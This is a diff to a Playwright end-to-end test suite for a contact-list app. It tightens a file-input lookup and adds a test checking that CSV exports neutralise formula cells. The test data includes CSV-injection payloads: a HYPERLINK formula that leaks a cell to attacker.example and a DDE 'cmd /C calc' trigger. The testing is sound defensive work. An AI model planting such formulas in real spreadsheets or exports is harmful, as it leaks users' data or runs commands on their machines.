@@ -1,3 +1,4 @@
+import { readFile } from 'node:fs/promises';
 import path from 'node:path';
 import { expect, type Page, test } from '@playwright/test';
 import { seedRep } from './playwright.config.ts';
@@ -33,12 +34,15 @@ test('upload a Salesforce report, verify, open it, set identifiers, save, reload
   await page.getByRole('button', { name: 'Upload' }).click();
   const modal = page.getByRole('dialog');
   await expect(modal.getByRole('heading', { name: 'Upload Contact List' })).toBeVisible();
-  // spec 1 §5: a .txt is refused.
-  await modal.getByLabel('CSV file').setInputFiles(path.join(fixtures, 'contacts.txt'));
+  // spec 1 §5: a .txt is refused. (The drop area is named 'CSV file: drop a file here or'; exact
+  // picks the file input inside it, which setInputFiles fills as a rep's pick would.)
+  await modal.getByLabel('CSV file', { exact: true }).setInputFiles(path.join(fixtures, 'contacts.txt'));
   await expect(modal.getByText('Invalid file extension')).toBeVisible();
 
   await modal.getByLabel('Name').fill('E2E Salesforce report');
-  await modal.getByLabel('CSV file').setInputFiles(path.join(fixtures, 'salesforce-report.csv'));
+  await modal
+    .getByLabel('CSV file', { exact: true })
+    .setInputFiles(path.join(fixtures, 'salesforce-report.csv'));
   await expect(modal.getByText('salesforce-report.csv')).toBeVisible();
   const next = modal.getByRole('button', { name: 'Continue' });
   await expect(next).not.toHaveAttribute('aria-disabled', 'true');
@@ -83,4 +87,59 @@ test('upload a Salesforce report, verify, open it, set identifiers, save, reload
   await page.reload();
   await expect(table.getByText('Sample prospects')).toBeVisible();
   await expect(table.getByText('E2E Salesforce report')).toHaveCount(0);
+});
+
+test('a list with formula cells shows them as typed and downloads them neutralised', async ({ page }) => {
+  await signIn(page);
+  await page.goto('/feature/contact/');
+  const table = page.getByRole('table', { name: 'Contact lists' });
+  const consent = page.getByRole('alertdialog', { name: 'Privacy Policy and Terms of Service' });
+  await expect(table.getByText('Sample prospects').or(consent).first()).toBeVisible();
+  if (await consent.isVisible()) {
+    await consent.getByRole('button', { name: 'I agree' }).press('Enter');
+    await expect(consent).toBeHidden();
+  }
+
+  await page.getByRole('button', { name: 'Upload' }).click();
+  const modal = page.getByRole('dialog');
+  await modal.getByLabel('Name').fill('E2E formulas');
+  await modal
+    .getByLabel('CSV file', { exact: true })
+    .setInputFiles(path.join(fixtures, 'formula-injection.csv'));
+  await expect(modal.getByText('formula-injection.csv')).toBeVisible();
+  await modal.getByRole('button', { name: 'Continue' }).click();
+  await modal.getByRole('button', { name: 'Start the upload' }).click();
+  await expect(modal).toBeHidden();
+  await table.getByText('E2E formulas').click();
+
+  // Stored and shown as typed (shared/README.md fixtures: formula-injection.csv).
+  const formula = '=HYPERLINK("http://attacker.example/?leak="&A1;"click")';
+  const grid = page.getByRole('table', { name: 'Contacts of the list' });
+  await expect(grid.getByRole('cell', { name: formula, exact: true })).toBeVisible();
+  await expect(grid.getByRole('cell', { name: '@SUM(1+1)', exact: true })).toBeVisible();
+
+  const downloading = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Download CSV' }).click();
+  const download = await downloading;
+  expect(download.suggestedFilename()).toBe('E2E formulas.csv');
+  const bytes = await readFile(await download.path());
+  // UTF-8 with a BOM, for spreadsheets.
+  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  const lines = bytes.subarray(3).toString('utf8').split('\r\n');
+  expect(lines).toEqual([
+    '"name","email","company"',
+    `"'=HYPERLINK(""http://attacker.example/?leak=""&A1;""click"")","eve@attacker.example","'+cmd|' /C calc'!A0"`,
+    `"'@SUM(1+1)","mallory@attacker.example","'-2+3"`,
+    '',
+  ]);
+
+  // The export changed nothing stored: after a reload the cell is still as typed.
+  await page.reload();
+  await expect(grid.getByRole('cell', { name: formula, exact: true })).toBeVisible();
+
+  await page.getByRole('link', { name: 'Back to contact lists' }).click();
+  const row = table.getByRole('row').filter({ hasText: 'E2E formulas' });
+  await row.getByRole('button', { name: 'Delete E2E formulas' }).click();
+  await page.getByRole('alertdialog').getByRole('button', { name: 'Delete' }).click();
+  await expect(row).toHaveCount(0);
 });
